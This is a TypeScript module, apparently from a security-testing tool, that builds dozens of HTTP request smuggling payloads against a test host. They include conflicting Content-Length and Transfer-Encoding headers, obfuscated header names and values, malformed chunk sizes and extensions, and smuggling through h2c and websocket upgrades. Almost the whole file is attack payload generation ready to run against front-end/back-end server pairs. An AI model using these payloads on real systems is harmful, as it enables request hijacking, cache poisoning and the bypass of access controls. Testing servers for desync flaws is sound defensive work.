// Requests whose end two servers could interpret differently. `hidden` is a body to one of them and a request to the
// other.

const start = 'POST /api/login HTTP/1.1\r\nHost: haat.test\r\nContent-Type: application/json\r\n';
const hex = (text: string) => text.length.toString(16);

/** Headers that declare both a length and chunked encoding, or nearly so; `L` stands for the length. */
const measuredTwice: Record<string, string> = {
  'length, chunks': 'Content-Length: L\r\nTransfer-Encoding: chunked\r\n',
  'chunks, length': 'Transfer-Encoding: chunked\r\nContent-Length: L\r\n',
  'chunks and something else': 'Content-Length: L\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n',
  'something else and chunks': 'Content-Length: L\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked\r\n',
  'chunks twice': 'Content-Length: L\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n',
  'a list that ends in chunks': 'Content-Length: L\r\nTransfer-Encoding: identity, chunked\r\n',
  'a list that begins with chunks': 'Content-Length: L\r\nTransfer-Encoding: chunked, identity\r\n',
  'nearly chunks': 'Content-Length: L\r\nTransfer-Encoding: xchunked\r\n',
  'chunks in quotes': 'Content-Length: L\r\nTransfer-Encoding: "chunked"\r\n',
  'a space before the colon': 'Content-Length: L\r\nTransfer-Encoding : chunked\r\n',
  'a tab before the value': 'Content-Length: L\r\nTransfer-Encoding:\tchunked\r\n',
  'a vertical tab before the value': 'Content-Length: L\r\nTransfer-Encoding:\vchunked\r\n',
  'a space before the name': 'Content-Length: L\r\n Transfer-Encoding: chunked\r\n',
  'a folded value': 'Content-Length: L\r\nTransfer-Encoding:\r\n chunked\r\n',
  'a folded length': 'Content-Length:\r\n L\r\nTransfer-Encoding: chunked\r\n',
  'a carriage return alone': 'Content-Length: L\r\nX-Line: a\rTransfer-Encoding: chunked\r\n',
  'a line feed alone': 'Content-Length: L\r\nX-Line: a\nTransfer-Encoding: chunked\r\n',
  'a NUL': 'Content-Length: L\r\nTransfer-Encoding: chunked\0\r\n',
  'an underscore': 'Content-Length: L\r\nTransfer_Encoding: chunked\r\n',
  'a length of one hop': 'Connection: Content-Length\r\nContent-Length: L\r\n',
  'chunks of one hop': 'Connection: Transfer-Encoding\r\nContent-Length: L\r\nTransfer-Encoding: chunked\r\n',
};

/** The bodies, with the length according to the first interpretation. */
function bodies(hidden: string) {
  const endsAtOnce = '0\r\n\r\n';
  const size = `${hex(hidden)}\r\n`;
  return [
    { end: 'the chunks end first', length: endsAtOnce.length + hidden.length, body: endsAtOnce + hidden },
    { end: 'the length ends first', length: size.length, body: `${size}${hidden}\r\n0\r\n\r\n` },
  ];
}

function ofTwoMeasures(hidden: string): [string, string][] {
  return Object.entries(measuredTwice).flatMap(([name, lines]) =>
    bodies(hidden).map(({ end, length, body }): [string, string] => [
      `${name}; ${end}`,
      `${start}${lines.replace('L', String(length))}\r\n${body}`,
    ]),
  );
}

function ofTwoLengths(hidden: string): [string, string][] {
  const all = String(hidden.length);
  const pairs = [
    ['0', all],
    [all, '0'],
    [`0, ${all}`],
    [`+${all}`],
    [`0x${hex(hidden)}`],
    ['-1'],
    [`${all} 0`],
    ['0_0'],
    ['9'.repeat(30)],
  ];
  return pairs.map((lengths) => [
    `lengths ${lengths.join(' and ').slice(0, 20)}`,
    `${start}${lengths.map((length) => `Content-Length: ${length}\r\n`).join('')}\r\n${hidden}`,
  ]);
}

function ofOddChunks(hidden: string): [string, string][] {
  const chunked = `${start}Transfer-Encoding: chunked\r\n\r\n`;
  const inChunk = `${hex(hidden)}\r\n${hidden}\r\n0\r\n\r\n`;
  return [
    ['an extension ended by a line feed', `${chunked}2;\nxx\r\n${inChunk}`],
    ['an extension with a carriage return', `${chunked}2;a\rb\r\nxx\r\n0\r\n\r\n${hidden}`],
    ['an extension in quotes', `${chunked}2;a="\r\nxx\r\n0\r\n\r\n${hidden}`],
    ['an extension of 20 kB', `${chunked}2;${'a'.repeat(20_000)}\r\nxx\r\n0\r\n\r\n${hidden}`],
    ['a size in hexadecimal of the language', `${chunked}0x2\r\nxx\r\n0\r\n\r\n${hidden}`],
    ['a size with a sign', `${chunked}+2\r\nxx\r\n0\r\n\r\n${hidden}`],
    ['a size below nothing', `${chunked}-2\r\nxx\r\n0\r\n\r\n${hidden}`],
    ['a size past 64 bits', `${chunked}10000000000000002\r\nxx\r\n0\r\n\r\n${hidden}`],
    ['a size ended by a line feed', `${chunked}2\nxx\r\n0\r\n\r\n${hidden}`],
    ['a chunk longer than its size', `${chunked}2\r\nxxyy\r\n0\r\n\r\n${hidden}`],
    ['an end without a line', `${chunked}2\r\nxx0\r\n\r\n${hidden}`],
    ['a length after the chunks', `${chunked}0\r\nContent-Length: ${hidden.length}\r\n\r\n${hidden}`],
    ['a folded line after the chunks', `${chunked}0\r\nX: a\r\n b\r\n\r\n${hidden}`],
  ];
}

function ofOtherKinds(hidden: string): [string, string][] {
  const get = 'GET /api/banner-list HTTP/1.1\r\nHost: haat.test\r\n';
  const length = `Content-Length: ${hidden.length}\r\n`;
  return [
    ['a body where none belongs', `${get}${length}\r\n${hidden}`],
    ['no length at all', `${start}\r\n${hidden}`],
    ['HTTP/1.0 with chunks', `${start.replace('1.1', '1.0')}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n${hidden}`],
    ['another version', `${start.replace('1.1', '1.2')}${length}\r\n${hidden}`],
    ['a body promised and sent at once', `${start}Expect: 100-continue\r\n${length}\r\n${hidden}`],
    ['a promise of another kind', `${start}Expect: x\r\n${length}\r\n${hidden}`],
    [
      'HTTP/2 over the same line',
      `${get}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n${hidden}`,
    ],
    [
      'a socket over the same line',
      `${get}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n${hidden}`,
    ],
    [
      'a request in the address',
      `GET /api/banner-list%20HTTP/1.1%0d%0aHost:%20x%0d%0a%0d%0a HTTP/1.1\r\nHost: haat.test\r\n\r\n${hidden}`,
    ],
    ['two hosts', `${get}Host: other.test\r\n${length}\r\n${hidden}`],
    ['an answer to a question about the head alone', `${get.replace('GET', 'HEAD')}${length}\r\n${hidden}`],
  ];
}

/** All attacks that smuggle `hidden`, by name. */
export function attacksWith(hidden: string): [string, string][] {
  return [...ofTwoMeasures(hidden), ...ofTwoLengths(hidden), ...ofOddChunks(hidden), ...ofOtherKinds(hidden)];
}
